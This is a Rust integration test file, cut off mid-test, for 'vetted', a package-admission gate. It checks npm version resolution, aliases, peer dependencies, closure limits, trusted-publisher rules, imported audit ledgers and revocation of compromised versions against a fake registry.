//! npm's semantics in the gate, on generated packages served by the fake upstream registry:
//! node-semver ranges, npm-pick-manifest's `latest` preference, `npm:` aliases, peer
//! dependencies, platforms before policy, broken metadata of unused versions, closure limits,
//! upstream dist-tags, bulk certification, suggestions, and revocation that reaches the store
//! and a running `serve`.
mod common;
mod gate_support;
mod serve_support;
use gate_support::{Published, Upstream, Workspace, days_ago, failed, json};
use serde_json::json;
use std::process::{Command, Output};
use std::time::{Duration, Instant};

/// Every package, any name, linux-x64 only: the policy of a platform team.
const STAR: &str = r#"
[[package]]
ecosystem = "npm"
name = "*"
criteria = ["safe-to-run"]
provenance = "if-present"
platforms = ["linux-x64"]
"#;

fn publish(up: &Upstream, name: &str, version: &str, meta: serde_json::Value) {
    let mut p = Published::new(name, version, &days_ago(10));
    p.meta = meta;
    up.publish(p);
}

fn code(out: &Output) -> Option<i32> {
    out.status.code()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn certify_closure(ws: &Workspace, spec: &str, extra: &[&str]) -> Output {
    let policy = ws.path("vetted.toml").display().to_string();
    let mut args = vec![
        "certify",
        spec,
        "--closure",
        "--policy",
        &policy,
        "--who",
        "Tester <t@example.com>",
    ];
    args.extend_from_slice(extra);
    ws.vetted(&args)
}

fn admitted(report: &serde_json::Value) -> Vec<String> {
    report["admitted"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|v| v.as_str().map(str::to_string))
        .collect()
}

/// certify --closure, then admit: the report.
fn certify_and_admit(ws: &Workspace, spec: &str) -> (Output, serde_json::Value) {
    let out = certify_closure(ws, spec, &[]);
    assert_eq!(code(&out), Some(0), "certify: {}", stderr(&out));
    let out = ws.admit(spec, &[]);
    let report = json(&out);
    (out, report)
}

/// A wrapper whose platform builds are npm aliases to prerelease versions of itself (Codex).
fn publish_codex(up: &Upstream) {
    publish(
        up,
        "@acme/codex",
        "1.0.0-linux-x64",
        json!({"os": ["linux"], "cpu": ["x64"]}),
    );
    publish(
        up,
        "@acme/codex",
        "1.0.0-darwin-arm64",
        json!({"os": ["darwin"], "cpu": ["arm64"]}),
    );
    publish(
        up,
        "@acme/codex",
        "1.0.0",
        json!({"bin": {"codex": "index.js"}, "optionalDependencies": {
            "@acme/codex-linux-x64": "npm:@acme/codex@1.0.0-linux-x64",
            "@acme/codex-darwin-arm64": "npm:@acme/codex@1.0.0-darwin-arm64"}}),
    );
}

#[test]
fn npm_alias_optional_dependency_is_resolved() {
    let up = Upstream::start();
    publish_codex(&up);
    let ws = Workspace::new(up, STAR);
    let (out, report) = certify_and_admit(&ws, "npm:@acme/codex@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(
        admitted(&report),
        ["@acme/codex@1.0.0", "@acme/codex@1.0.0-linux-x64"]
    );
    assert!(
        report.to_string().contains("(as @acme/codex-linux-x64)"),
        "{report}"
    );
}

#[test]
fn npm_alias_to_a_missing_version_is_rejected() {
    let up = Upstream::start();
    publish(&up, "@acme/lib", "1.0.0", json!({}));
    publish(
        &up,
        "@acme/app",
        "1.0.0",
        json!({"dependencies": {"lib": "npm:@acme/lib@^2"}}),
    );
    let ws = Workspace::new(up, STAR);
    let out = ws.admit("npm:@acme/app@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let report = json(&out);
    assert_eq!(failed(&report, "@acme/lib"), ["resolve"]);
    assert!(report.to_string().contains("satisfies"), "{report}");
}

#[test]
fn platform_build_never_becomes_latest() {
    let up = Upstream::start();
    publish_codex(&up);
    let ws = Workspace::new(up, STAR);
    let out = certify_closure(&ws, "npm:@acme/codex@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    // Only the platform build admitted: upstream's `latest` (1.0.0) is not admitted, so the
    // mirror has no `latest` at all rather than promoting the platform build.
    let out = ws.admit("npm:@acme/codex@1.0.0-linux-x64", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let index = vetted::store::Store::open(&ws.path("store"))
        .index()
        .expect("index");
    let pkg = &index.packages["@acme/codex"];
    let doc = vetted::serve::registry::packument("http://h", "@acme/codex", pkg, false);
    assert_eq!(doc["dist-tags"], json!({}), "{doc}");
    // With the wrapper admitted too, `latest` is the wrapper, as upstream says.
    let out = ws.admit("npm:@acme/codex@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let index = vetted::store::Store::open(&ws.path("store"))
        .index()
        .expect("index");
    let pkg = &index.packages["@acme/codex"];
    let doc = vetted::serve::registry::packument("http://h", "@acme/codex", pkg, false);
    assert_eq!(doc["dist-tags"], json!({"latest": "1.0.0"}), "{doc}");
}

fn publish_lib_versions(up: &Upstream) {
    for v in [
        "1.2.0", "1.2.5", "1.9.0", "1.19.9", "2.0.5", "2.1.0", "3.0.0",
    ] {
        publish(up, "lib", v, json!({}));
    }
}

#[test]
fn or_range_resolves_like_npm() {
    let up = Upstream::start();
    publish_lib_versions(&up);
    publish(
        &up,
        "app",
        "1.0.0",
        json!({"dependencies": {"lib": "^1.19.9 || ^2.0.5"}}),
    );
    publish(
        &up,
        "app2",
        "1.0.0",
        json!({"dependencies": {"lib": "1.2"}}),
    );
    publish(
        &up,
        "app3",
        "1.0.0",
        json!({"dependencies": {"lib": ">= 1.2.1 < 2.0.0"}}),
    );
    let ws = Workspace::new(up, STAR);
    // `latest` is 3.0.0 (published last), outside the range: the highest satisfying wins.
    let (out, report) = certify_and_admit(&ws, "npm:app@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(admitted(&report), ["app@1.0.0", "lib@2.1.0"]);
    // `1.2` is an x-range (>=1.2.0 <1.3.0-0), not Cargo's ^1.2.
    let (out, report) = certify_and_admit(&ws, "npm:app2@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(admitted(&report), ["app2@1.0.0", "lib@1.2.5"]);
    let (out, report) = certify_and_admit(&ws, "npm:app3@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(admitted(&report), ["app3@1.0.0", "lib@1.19.9"]);
}

#[test]
fn range_nothing_satisfies_is_rejected() {
    let up = Upstream::start();
    publish_lib_versions(&up);
    publish(
        &up,
        "app",
        "1.0.0",
        json!({"dependencies": {"lib": "^4 || ~0.1"}}),
    );
    publish(
        &up,
        "gitdep",
        "1.0.0",
        json!({"dependencies": {"lib": "github:evil/lib"}}),
    );
    let ws = Workspace::new(up, STAR);
    let out = ws.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert_eq!(failed(&json(&out), "lib"), ["resolve"]);
    let out = ws.admit("npm:gitdep@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert_eq!(failed(&json(&out), "lib"), ["resolve"]);
}

#[test]
fn latest_is_preferred_when_it_satisfies() {
    let up = Upstream::start();
    publish(&up, "lib", "1.5.0", json!({}));
    publish(&up, "lib", "1.4.0", json!({})); // published last: `latest`
    publish(
        &up,
        "app",
        "1.0.0",
        json!({"dependencies": {"lib": "^1.0.0"}}),
    );
    let ws = Workspace::new(up, STAR);
    let (out, report) = certify_and_admit(&ws, "npm:app@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(admitted(&report), ["app@1.0.0", "lib@1.4.0"]);
}

#[test]
fn broken_metadata_of_unused_version_is_ignored() {
    let up = Upstream::start();
    publish(&up, "mime", "1.0.0", json!({"dependencies": []}));
    publish(&up, "mime", "1.1.0", json!({}));
    publish(
        &up,
        "app",
        "1.0.0",
        json!({"dependencies": {"mime": "^1.1.0"}}),
    );
    let ws = Workspace::new(up, STAR);
    let (out, report) = certify_and_admit(&ws, "npm:app@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(admitted(&report), ["app@1.0.0", "mime@1.1.0"]);
    let notes = report["notes"].to_string();
    assert!(
        notes.contains("mime") && notes.contains("1.0.0: dependencies is an array"),
        "{notes}"
    );
}

#[test]
fn broken_metadata_of_the_version_npm_would_pick_is_rejected() {
    let up = Upstream::start();
    publish(&up, "mime", "1.1.0", json!({}));
    publish(&up, "mime", "1.0.0", json!({"dependencies": []}));
    publish(
        &up,
        "app",
        "1.0.0",
        json!({"dependencies": {"mime": "1.0.0"}}),
    );
    let ws = Workspace::new(up, STAR);
    let out = ws.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let report = json(&out);
    assert_eq!(failed(&report, "mime"), ["resolve"]);
    assert!(report.to_string().contains("broken"), "{report}");
}

#[test]
fn optional_dependency_for_other_platforms_needs_no_policy_entry() {
    let up = Upstream::start();
    publish(
        &up,
        "@acme/agent-linux-x64",
        "1.0.0",
        json!({"os": ["linux"], "cpu": ["x64"]}),
    );
    publish(
        &up,
        "@other/agent-win32-x64",
        "1.0.0",
        json!({"os": ["win32"], "cpu": ["x64"]}),
    );
    publish(
        &up,
        "@acme/agent",
        "1.0.0",
        json!({"optionalDependencies": {"@acme/agent-linux-x64": "1.0.0", "@other/agent-win32-x64": "1.0.0"}}),
    );
    let exact = r#"
[[package]]
ecosystem = "npm"
name = "@acme/agent"
criteria = ["safe-to-run"]
provenance = "if-present"
platforms = ["linux-x64"]

[[package]]
ecosystem = "npm"
name = "@acme/agent-linux-x64"
criteria = ["safe-to-run"]
provenance = "if-present"
"#;
    let ws = Workspace::new(up, exact);
    let (out, report) = certify_and_admit(&ws, "npm:@acme/agent@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(
        admitted(&report),
        ["@acme/agent@1.0.0", "@acme/agent-linux-x64@1.0.0"]
    );
}

#[test]
fn optional_dependency_for_the_policy_platform_still_needs_a_policy_entry() {
    let up = Upstream::start();
    publish(
        &up,
        "@other/agent-linux-x64",
        "1.0.0",
        json!({"os": ["linux"], "cpu": ["x64"]}),
    );
    publish(
        &up,
        "@acme/agent",
        "1.0.0",
        json!({"optionalDependencies": {"@other/agent-linux-x64": "1.0.0"}}),
    );
    let exact = r#"
[[package]]
ecosystem = "npm"
name = "@acme/agent"
criteria = ["safe-to-run"]
provenance = "if-present"
platforms = ["linux-x64"]
"#;
    let ws = Workspace::new(up, exact);
    let out = ws.admit("npm:@acme/agent@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert_eq!(failed(&json(&out), "@other/agent-linux-x64"), ["policy"]);
}

#[test]
fn peer_dependency_npm_installs_is_in_the_closure() {
    let up = Upstream::start();
    publish(&up, "react", "18.3.1", json!({}));
    publish(&up, "optional-peer", "1.0.0", json!({}));
    publish(
        &up,
        "ui",
        "1.0.0",
        json!({"peerDependencies": {"react": "^18", "optional-peer": "1"},
               "peerDependenciesMeta": {"optional-peer": {"optional": true}}}),
    );
    let ws = Workspace::new(up, STAR);
    let (out, report) = certify_and_admit(&ws, "npm:ui@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(admitted(&report), ["ui@1.0.0", "react@18.3.1"]);
}

#[test]
fn unreviewed_peer_dependency_rejects_the_closure() {
    let up = Upstream::start();
    publish(&up, "react", "18.3.1", json!({}));
    publish(
        &up,
        "ui",
        "1.0.0",
        json!({"peerDependencies": {"react": "^18"}}),
    );
    let ws = Workspace::new(up, STAR);
    ws.certify("npm:ui@1.0.0");
    let out = ws.admit("npm:ui@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert_eq!(failed(&json(&out), "react@18.3.1"), ["review"]);
}

fn publish_chain(up: &Upstream, n: usize) {
    for i in 0..n {
        let deps = if i + 1 < n {
            json!({"dependencies": {format!("chain{}", i + 1): "1.0.0"}})
        } else {
            json!({})
        };
        publish(up, &format!("chain{i}"), "1.0.0", deps);
    }
}

#[test]
fn endless_dependency_chain_hits_closure_limit() {
    let up = Upstream::start();
    publish_chain(&up, 12);
    let ws = Workspace::new(up, STAR);
    let out = ws.admit("npm:chain0@1.0.0", &["--max-closure-depth", "5"]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let report = json(&out);
    assert_eq!(failed(&report, "chain6"), ["closure-limit"]);
    assert!(report.to_string().contains("closure depth"), "{report}");
    let out = ws.admit("npm:chain0@1.0.0", &["--max-closure-packages", "3"]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert!(
        json(&out)
            .to_string()
            .contains("closure packages is limited to 3"),
        "{}",
        json(&out)
    );
    assert!(!ws.path("store/index.json").exists());
}

#[test]
fn dependency_chain_within_the_closure_limits_is_admitted() {
    let up = Upstream::start();
    publish_chain(&up, 4);
    let ws = Workspace::new(up, STAR);
    let out = certify_closure(&ws, "npm:chain0@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let out = ws.admit(
        "npm:chain0@1.0.0",
        &["--max-closure-depth", "3", "--max-closure-packages", "4"],
    );
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert_eq!(admitted(&json(&out)).len(), 4);
}

#[test]
fn certify_closure_writes_one_audit_per_artifact_in_one_write() {
    let up = Upstream::start();
    publish_codex(&up);
    let ws = Workspace::new(up, STAR);
    let out = certify_closure(&ws, "npm:@acme/codex@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let text = std::fs::read_to_string(ws.path("ledger/audits.toml")).expect("ledger");
    assert_eq!(text.matches("[[audit]]").count(), 2, "{text}");
    assert!(text.contains("1.0.0-linux-x64") && !text.contains("darwin"));
    // Again: everything is covered, nothing is added.
    let out = certify_closure(&ws, "npm:@acme/codex@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("certified 0 artifact(s)"));
    let again = std::fs::read_to_string(ws.path("ledger/audits.toml")).expect("ledger");
    assert_eq!(again, text);
}

#[test]
fn certify_closure_exemptions_are_pinned_and_expire() {
    let up = Upstream::start();
    publish(&up, "lib", "1.0.0", json!({}));
    publish(&up, "app", "1.0.0", json!({"dependencies": {"lib": "^1"}}));
    let ws = Workspace::new(up, STAR);
    let out = certify_closure(
        &ws,
        "npm:app@1.0.0",
        &["--exempt", "--expires", "2999-01-01"],
    );
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let text = std::fs::read_to_string(ws.path("ledger/audits.toml")).expect("ledger");
    assert_eq!(text.matches("[[exemption]]").count(), 2, "{text}");
    assert!(text.contains("sha512"));
    let out = ws.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    // Expired exemptions admit nothing.
    let ws2 = Workspace::new(ws.upstream.clone(), STAR);
    let out = certify_closure(
        &ws2,
        "npm:app@1.0.0",
        &["--exempt", "--expires", "2000-01-01"],
    );
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let out = ws2.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
}

#[test]
fn suggest_lists_what_must_be_audited_smallest_first() {
    let up = Upstream::start();
    publish(&up, "lib", "1.0.0", json!({}));
    publish(&up, "app", "1.0.0", json!({"dependencies": {"lib": "^1"}}));
    let ws = Workspace::new(up, STAR);
    let policy = ws.path("vetted.toml").display().to_string();
    let out = ws.vetted(&["suggest", "npm:app@1.0.0", "--policy", &policy, "--json"]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let s = json(&out);
    let names: Vec<&str> = s["to_audit"]
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|x| x["package"].as_str())
        .collect();
    assert_eq!(names.len(), 2, "{s}");
    ws.certify("npm:lib@1.0.0");
    // lib 1.1.0 appears: suggest names 1.0.0 as the nearest audited version.
    publish(&ws.upstream, "lib", "1.1.0", json!({}));
    ws.certify("npm:app@1.0.0");
    let out = ws.vetted(&["suggest", "npm:app@1.0.0", "--policy", &policy, "--json"]);
    let s = json(&out);
    assert_eq!(s["to_audit"][0]["package"], "lib@1.1.0", "{s}");
    assert_eq!(s["to_audit"][0]["nearest"], "1.0.0", "{s}");
    assert!(
        s["to_audit"][0]["command"]
            .as_str()
            .unwrap_or("")
            .contains("--delta-from 1.0.0")
    );
    ws.certify("npm:lib@1.1.0");
    let out = ws.vetted(&["suggest", "npm:app@1.0.0", "--policy", &policy, "--json"]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
}

fn revoke(ws: &Workspace, spec: &str) -> Output {
    Command::new(env!("CARGO_BIN_EXE_vetted"))
        .args(["revoke", spec, "--why", "compromised upstream account"])
        .args(["--who", "Security <sec@example.com>"])
        .arg("--ledger")
        .arg(ws.path("ledger"))
        .arg("--store")
        .arg(ws.path("store"))
        .output()
        .expect("run vetted revoke")
}

#[test]
fn revoked_version_is_withdrawn_from_running_serve() {
    let up = Upstream::start();
    publish(&up, "lib", "1.0.0", json!({}));
    publish(&up, "lib", "1.1.0", json!({}));
    let ws = Workspace::new(up, STAR);
    for v in ["1.0.0", "1.1.0"] {
        let (out, _) = certify_and_admit(&ws, &format!("npm:lib@{v}"));
        assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    }
    let server = serve_support::Server::start(&ws.path("store"), &[]);
    let (status, _, body, _) = serve_support::http_get(&server.base, "/lib", &[]);
    assert_eq!(status, 200);
    assert_eq!(
        serve_support::json_of(&body)["dist-tags"]["latest"],
        "1.1.0"
    );
    let index = vetted::store::Store::open(&ws.path("store"))
        .index()
        .expect("index");
    let blob = serve_support::blob_path(&ws.path("store"), &index, "lib", "1.1.0");

    let out = revoke(&ws, "lib@1.1.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let start = Instant::now();
    loop {
        let (status, _, _, _) = serve_support::http_get(&server.base, "/lib/1.1.0", &[]);
        if status == 404 {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(5),
            "still served after 5 s"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let (status, _, _, _) = serve_support::http_get(&server.base, "/lib/-/lib-1.1.0.tgz", &[]);
    assert_eq!(status, 404, "the tarball is not served either");
    let (_, _, body, _) = serve_support::http_get(&server.base, "/lib", &[]);
    let doc = serve_support::json_of(&body);
    assert!(doc["versions"].get("1.1.0").is_none(), "{doc}");
    assert_eq!(
        doc["dist-tags"]["latest"], "1.0.0",
        "the highest admitted release stands in"
    );
    assert!(blob.exists(), "the blob is kept for forensics");
    let index = vetted::store::Store::open(&ws.path("store"))
        .index()
        .expect("index");
    assert!(index.withdrawn["lib"]["1.1.0"].why.contains("compromised"));
    let ledger = std::fs::read_to_string(ws.path("ledger/audits.toml")).expect("ledger");
    assert!(ledger.contains("[[violation]]"), "{ledger}");
    // And admitting it again is refused.
    let out = ws.admit("npm:lib@1.1.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
}

#[test]
fn unrevoked_versions_keep_being_served() {
    let up = Upstream::start();
    publish(&up, "lib", "1.0.0", json!({}));
    publish(&up, "lib", "1.1.0", json!({}));
    let ws = Workspace::new(up, STAR);
    for v in ["1.0.0", "1.1.0"] {
        let (out, _) = certify_and_admit(&ws, &format!("npm:lib@{v}"));
        assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    }
    let out = revoke(&ws, "lib@1.1.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let server = serve_support::Server::start(&ws.path("store"), &[]);
    let (status, _, _, _) = serve_support::http_get(&server.base, "/lib/1.0.0", &[]);
    assert_eq!(status, 200);
    let (status, _, _, _) = serve_support::http_get(&server.base, "/lib/-/lib-1.0.0.tgz", &[]);
    assert_eq!(status, 200);
}

#[test]
fn admit_withdraws_revoked_versions_it_finds() {
    let up = Upstream::start();
    publish(&up, "lib", "1.0.0", json!({}));
    publish(&up, "other", "1.0.0", json!({}));
    let ws = Workspace::new(up, STAR);
    let (out, _) = certify_and_admit(&ws, "npm:lib@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    // A violation written into the ledger by hand (or imported), no `revoke` run.
    ws.append_ledger(
        "\n[[violation]]\necosystem = \"npm\"\nname = \"lib\"\nversion = \"1.0.0\"\nwho = \"Sec <s@example.com>\"\nwhen = \"2026-01-01\"\nnotes = \"bad\"\n",
    );
    let (out, report) = certify_and_admit(&ws, "npm:other@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    assert!(
        report["notes"].to_string().contains("withdrew lib@1.0.0"),
        "{report}"
    );
    let index = vetted::store::Store::open(&ws.path("store"))
        .index()
        .expect("index");
    assert!(!index.packages.contains_key("lib"));
    assert!(index.withdrawn["lib"].contains_key("1.0.0"));
}

/// Unpack an admitted tarball as npm would lay it out in node_modules.
fn install_like_npm(tgz: &[u8], dest: &std::path::Path) {
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(tgz));
    for entry in archive.entries().expect("entries") {
        let mut entry = entry.expect("entry");
        let path = entry.path().expect("path").into_owned();
        let rel = path.strip_prefix("package").expect("package/");
        let out = dest.join(rel);
        std::fs::create_dir_all(out.parent().expect("parent")).expect("mkdir");
        entry.unpack(&out).expect("unpack");
    }
}

#[test]
fn audit_installed_reports_a_revoked_install_as_revoked() {
    let up = Upstream::start();
    publish(&up, "lib", "1.0.0", json!({}));
    let ws = Workspace::new(up.clone(), STAR);
    let (out, _) = certify_and_admit(&ws, "npm:lib@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let nm = ws.path("project/node_modules");
    let tgz = {
        let index = vetted::store::Store::open(&ws.path("store"))
            .index()
            .expect("index");
        std::fs::read(serve_support::blob_path(
            &ws.path("store"),
            &index,
            "lib",
            "1.0.0",
        ))
        .expect("blob")
    };
    install_like_npm(&tgz, &nm.join("lib"));
    let audit = || {
        Command::new(env!("CARGO_BIN_EXE_vetted"))
            .arg("audit-installed")
            .arg(&nm)
            .arg("--ledger")
            .arg(ws.path("ledger"))
            .output()
            .expect("audit-installed")
    };
    let out = audit();
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let out = revoke(&ws, "lib@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let out = audit();
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
    assert!(text.contains("revoked"), "{text}");
}

#[test]
fn serve_refuses_a_path_that_is_not_a_store() {
    let dir = tempfile::tempdir().expect("tempdir");
    for path in [dir.path().join("nope"), dir.path().to_path_buf()] {
        let out = Command::new(env!("CARGO_BIN_EXE_vetted"))
            .args(["serve", "--listen", "127.0.0.1:0", "--store"])
            .arg(&path)
            .output()
            .expect("run");
        assert_eq!(code(&out), Some(2), "{}", stderr(&out));
        assert!(stderr(&out).contains("store"), "{}", stderr(&out));
    }
}

/// Real npm provenance from the corpus (sigstore@1.3.0, built by sigstore-js's release
/// workflow), trusted by a `[[trusted]]` entry instead of an audit.
fn trusted_workspace(entry: &str) -> Option<Workspace> {
    let corpus = common::corpus("trusted publisher tests")?;
    let npm = corpus.join("slsa/npm");
    let up = Upstream::start();
    let mut p = Published::new("sigstore", "1.3.0", "2023-04-10T18:00:00Z");
    p.tarball = Some(std::fs::read(npm.join("sigstore-1.3.0.tgz")).expect("tarball"));
    p.attestations =
        Some(std::fs::read(npm.join("sigstore-1.3.0.attestations.json")).expect("attestations"));
    up.publish(p);
    let ws = Workspace::new(up, STAR);
    ws.append_ledger(entry);
    Some(ws)
}

fn trusted_entry(workflow: &str, reference: &str, expires: &str) -> String {
    format!(
        r#"
[[trusted]]
ecosystem = "npm"
name = "sigstore*"
source-repository = "github.com/sigstore/sigstore-js"
signer-workflow = "github.com/sigstore/sigstore-js/.github/workflows/{workflow}"
issuer = "https://token.actions.githubusercontent.com"
ref = "{reference}"
criteria = ["safe-to-run"]
who = "Platform <p@example.com>"
when = 2026-01-01
expires = {expires}
"#
    )
}

#[test]
fn trusted_publisher_covers_a_build_with_that_verified_identity() {
    let Some(ws) = trusted_workspace(&trusted_entry("release.yml", "refs/*", "2999-01-01")) else {
        return;
    };
    let out = ws.admit("npm:sigstore@1.3.0", &[]);
    assert_eq!(
        code(&out),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let report = json(&out);
    assert!(
        report.to_string().contains("covered by trusted publisher"),
        "{report}"
    );
    // The admission record names the basis too.
    let index = vetted::store::Store::open(&ws.path("store"))
        .index()
        .expect("index");
    let entry = &index.packages["sigstore"].versions["1.3.0"];
    let record = vetted::store::Store::open(&ws.path("store"))
        .record(&entry.record)
        .expect("record");
    assert!(
        record["reviews"][0]["basis"]
            .as_str()
            .unwrap_or("")
            .starts_with("covered by trusted publisher"),
        "{record}"
    );
    // Nothing left to audit, and nothing for certify --closure to add.
    let policy = ws.path("vetted.toml").display().to_string();
    let out = ws.vetted(&[
        "suggest",
        "npm:sigstore@1.3.0",
        "--policy",
        &policy,
        "--json",
    ]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
}

#[test]
fn trusted_publisher_with_another_identity_covers_nothing() {
    for entry in [
        trusted_entry("other.yml", "refs/*", "2999-01-01"),
        trusted_entry("release.yml", "refs/heads/never-*", "2999-01-01"),
        trusted_entry("release.yml", "refs/*", "2020-01-01"),
    ] {
        let Some(ws) = trusted_workspace(&entry) else {
            return;
        };
        let out = ws.admit("npm:sigstore@1.3.0", &[]);
        assert_eq!(code(&out), Some(1), "{entry}");
        assert_eq!(failed(&json(&out), "sigstore@1.3.0"), ["review"], "{entry}");
    }
}

#[test]
fn trusted_publisher_does_not_cover_a_revoked_version() {
    let mut entry = trusted_entry("release.yml", "refs/*", "2999-01-01");
    entry.push_str(
        "\n[[violation]]\necosystem = \"npm\"\nname = \"sigstore\"\nversion = \"1.3.0\"\nwho = \"Sec <s@example.com>\"\nwhen = 2026-01-02\n",
    );
    let Some(ws) = trusted_workspace(&entry) else {
        return;
    };
    let out = ws.admit("npm:sigstore@1.3.0", &[]);
    assert_eq!(code(&out), Some(1));
    assert_eq!(failed(&json(&out), "sigstore@1.3.0"), ["revoked"]);
}

// ------------------------------------------------ imports next to [[trusted]] and exemptions

/// Pin `org_ledger` (another organisation's audits.toml) as `[imports.acme]` of `ws`.
fn import_acme(ws: &Workspace, org_ledger: &str) {
    let pin = vetted::digest::sha256(org_ledger.as_bytes());
    std::fs::write(ws.path("ledger/acme.toml"), org_ledger).expect("write import");
    ws.append_ledger(&format!(
        "\n[imports.acme]\npath = \"acme.toml\"\nsha256 = \"{pin}\"\n"
    ));
}

fn publish_app_lib_other(up: &Upstream) {
    publish(up, "lib", "1.0.0", json!({}));
    publish(up, "app", "1.0.0", json!({"dependencies": {"lib": "^1"}}));
    publish(up, "other", "1.0.0", json!({}));
}

/// acme audited app's closure; our ledger has its own `[[trusted]]` entry and an exemption:
/// acme's audits still admit app, our exemption still admits other.
#[test]
fn imported_audits_still_admit_next_to_local_trusted_entries_and_exemptions() {
    let up = Upstream::start();
    publish_app_lib_other(&up);
    let acme = Workspace::new(up.clone(), STAR);
    let out = certify_closure(&acme, "npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let acme_ledger = std::fs::read_to_string(acme.path("ledger/audits.toml")).expect("acme");

    let ws = Workspace::new(up, STAR);
    let out = certify_closure(
        &ws,
        "npm:other@1.0.0",
        &["--exempt", "--expires", "2999-01-01"],
    );
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    ws.append_ledger(&trusted_entry("release.yml", "refs/*", "2999-01-01"));
    // Before the import nothing covers app.
    let out = ws.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert_eq!(failed(&json(&out), "app@1.0.0"), ["review"]);

    import_acme(&ws, &acme_ledger);
    let out = ws.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let mut got = admitted(&json(&out));
    got.sort();
    assert_eq!(got, ["app@1.0.0", "lib@1.0.0"]);
    let out = ws.admit("npm:other@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
}

/// An exemption or a `[[trusted]]` entry in acme's ledger is acme's decision, not ours: it
/// covers nothing here (the rest of the import still counts).
#[test]
fn imported_exemptions_and_trusted_entries_grant_nothing() {
    let up = Upstream::start();
    publish_app_lib_other(&up);
    let acme = Workspace::new(up.clone(), STAR);
    let out = certify_closure(
        &acme,
        "npm:app@1.0.0",
        &["--exempt", "--expires", "2999-01-01"],
    );
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let out = certify_closure(&acme, "npm:other@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    acme.append_ledger(
        r#"
[[trusted]]
ecosystem = "npm"
name = "*"
source-repository = "github.com/acme/everything"
signer-workflow = "github.com/acme/everything/.github/workflows/release.yml"
issuer = "https://token.actions.githubusercontent.com"
criteria = ["safe-to-run"]
who = "Acme <a@example.com>"
when = 2026-01-01
expires = 2999-01-01
"#,
    );
    let acme_ledger = std::fs::read_to_string(acme.path("ledger/audits.toml")).expect("acme");
    assert!(acme_ledger.contains("[[exemption]]") && acme_ledger.contains("[[trusted]]"));
    // acme's own admission passes on its exemptions.
    let out = acme.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));

    let ws = Workspace::new(up, STAR);
    import_acme(&ws, &acme_ledger);
    let out = ws.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let report = json(&out);
    assert_eq!(failed(&report, "app@1.0.0"), ["review"], "{report}");
